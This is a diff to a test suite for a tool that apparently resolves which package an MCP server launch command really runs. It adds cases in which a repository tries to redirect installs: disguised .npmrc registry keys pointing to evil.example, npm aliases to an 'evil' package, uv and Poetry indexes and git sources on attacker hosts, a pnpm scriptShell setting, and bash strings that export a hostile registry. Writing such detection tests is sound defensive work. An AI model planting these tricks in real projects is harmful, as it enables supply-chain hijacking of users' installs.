@@ -735,6 +735,185 @@ describe('what a repository may try', () => {
       ['npm good-mcp - (registry in pnpm-workspace.yaml:1)'],
     ],
     [
+      'a pattern of nothing',
+      {
+        ...repo,
+        'package.json': manifest({
+          dependencies: good,
+          scripts: start,
+          workspaces: ['./', `${'*a'.repeat(30)}b`],
+        }),
+      },
+      'npm start',
+      [goodAt],
+    ],
+    [
+      'a tool that moves files',
+      {
+        ...repo,
+        'package.json': manifest({
+          dependencies: good,
+          scripts: { ...start, prestart: 'cp x.js node_modules/good-mcp/x.js' },
+        }),
+      },
+      'npm start',
+      [noProgram, goodAt],
+    ],
+    [
+      'a tool that builds beside what is installed',
+      {
+        ...repo,
+        'package.json': manifest({ dependencies: good, scripts: { start: 'tsc && good-mcp' } }),
+      },
+      'npm start',
+      [goodAt, 'unidentified: a script that builds beside what it starts'],
+    ],
+    [
+      'another package under the name of a tool',
+      {
+        'package.json': manifest({
+          devDependencies: { vite: 'npm:evil@1.0.0' },
+          scripts: { start: 'vite' },
+        }),
+      },
+      'npm start',
+      ['npm evil 1.0.0'],
+    ],
+    [
+      'a folder of the command line that is not seen',
+      {},
+      'pnpm -C vendor/e dlx good-mcp',
+      ['npm good-mcp - (a folder that is not in the tree)'],
+    ],
+    [
+      'keys that npm reads otherwise',
+      { '.npmrc': String.raw`"\u0072egistry"=https://evil.example/` },
+      'npx good-mcp',
+      ['npm good-mcp - (registry in .npmrc:1)'],
+    ],
+    [
+      'keys with a comment',
+      { '.npmrc': 'registry#x=https://evil.example/' },
+      'npx good-mcp',
+      ['npm good-mcp - (registry in .npmrc:1)'],
+    ],
+    [
+      'keys with a variable',
+      { '.npmrc': 'regis${X?}try=https://evil.example/' },
+      'npx good-mcp',
+      ['npm good-mcp - (regis${X?}try in .npmrc:1)'],
+    ],
+    [
+      'settings of pnpm in its own spelling',
+      { 'pnpm-workspace.yaml': 'scriptShell: ./evil\n' },
+      'pnpm dlx good-mcp',
+      ['npm good-mcp - (scriptShell in pnpm-workspace.yaml:1)'],
+    ],
+    [
+      'a program of another package of the tree',
+      {
+        'package.json': manifest({}),
+        'p/e/package.json': json({ name: 'e', bin: { 'good-mcp': 'e.js' } }),
+      },
+      'npx -y good-mcp',
+      ['npm good-mcp - (the project’s own program of that name in p/e/package.json:4)'],
+    ],
+    [
+      'an alias that npx finds installed',
+      { 'package.json': manifest({ dependencies: { 'good-mcp': 'npm:evil@1' } }) },
+      'npx -y good-mcp',
+      ['npm good-mcp -', 'npm evil 1'],
+    ],
+    [
+      'an index of Poetry',
+      {
+        'pyproject.toml':
+          '[tool.poetry.dependencies]\ngood-mcp = "1.0.0"\n[[tool.poetry.source]]\nname = "evil"\nurl = "https://evil.example"\n',
+      },
+      'poetry run good-mcp',
+      ['pypi good-mcp ==1.0.0 (tool.poetry.source in pyproject.toml:3)'],
+    ],
+    [
+      'an override of uv',
+      inPyproject(
+        'dependencies = ["good-mcp"]\n[tool.uv]\noverride-dependencies = ["good-mcp @ https://evil.example/x.whl"]',
+      ),
+      'uv run good-mcp',
+      ['unidentified: an archive by its address, which the export does not grade'],
+    ],
+    [
+      'a source of the workspace’s root',
+      {
+        ...inPyproject(
+          'dependencies = []\n[tool.uv.sources]\ngood-mcp = { git = "https://github.com/evil/g" }',
+        ),
+        'm/pyproject.toml': '[project]\ndependencies = ["good-mcp"]\n',
+      },
+      'uv --directory m run good-mcp',
+      ['git github.com/evil/g -'],
+    ],
+    [
+      'an explicit index beside one that is not',
+      inPyproject(
+        'dependencies = ["good-mcp"]\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\nexplicit = false\n[[tool.uv.index]]\nurl = "https://torch.example/simple"\nexplicit = true',
+      ),
+      'uv run good-mcp',
+      ['pypi good-mcp - (index.url in pyproject.toml:4)'],
+    ],
+    [
+      'a package of the tree before the module',
+      { 'requirements.txt': 'good-mcp==1.0.0', 'good_mcp/__init__.py': '' },
+      'python -m good_mcp.server',
+      [noProgram],
+    ],
+    [
+      'declarations that differ',
+      inPyproject(
+        'dependencies = ["good-mcp==0.1.0"]\n[project.optional-dependencies]\nx = ["good-mcp==1.0.0"]',
+      ),
+      'uv run good-mcp',
+      ['pypi good-mcp ==0.1.0 (a second declaration that differs in pyproject.toml:1)'],
+    ],
+    [
+      'an override that refers',
+      {
+        'package.json': manifest({
+          dependencies: { ...good, x: 'npm:evil@1' },
+          overrides: { 'good-mcp': '$x' },
+        }),
+      },
+      'pnpm exec good-mcp',
+      ['npm evil 1'],
+    ],
+    [
+      'what an override of a parent holds',
+      {
+        ...repo,
+        'package.json': manifest({
+          dependencies: good,
+          scripts: start,
+          overrides: { 'good-mcp': { zod: '3' } },
+        }),
+      },
+      'npm start',
+      [goodAt],
+    ],
+    [
+      'an address that looks like a path',
+      { 'https:/evil.example/x.py': '' },
+      'uv run https://evil.example/x.py',
+      ['unidentified: a program that is not in the tree'],
+    ],
+    [
+      'an interpreter that watches',
+      {
+        'package.json': manifest({ scripts: { start: 'tsx watch --env-file=.env src/i.ts' } }),
+        'src/i.ts': '',
+      },
+      'npm start',
+      ['local src/i.ts'],
+    ],
+    [
       'another Yarn 1',
       { '.yarnrc': 'yarn-path "./evil.js"\n', ...repo },
       'yarn good-mcp',
@@ -765,6 +944,14 @@ describe('what a repository may try', () => {
   });
 
   test('variables that a shell assigns on its way', async () => {
+    for (const text of [
+      'export -- npm_config_registry=https://evil.example; npx good',
+      'export CI npm_config_registry+=https://evil.example; npx good',
+    ]) {
+      const launch = launchOf({ command: word('bash'), args: [word('-c'), word(text)] });
+      const [first] = await resolveIn({}, declare('x', { launch }));
+      expect(first?.alterations).toMatchObject([{ what: 'npm_config_registry' }]);
+    }
     for (const text of [': ${X:=evil}; export X; npx good', 'printf -v PATH %s ./bin; npx good']) {
       const launch = launchOf({ command: word('bash'), args: [word('-c'), word(text)] });
       const [first] = await resolveIn({}, declare('x', { launch }));
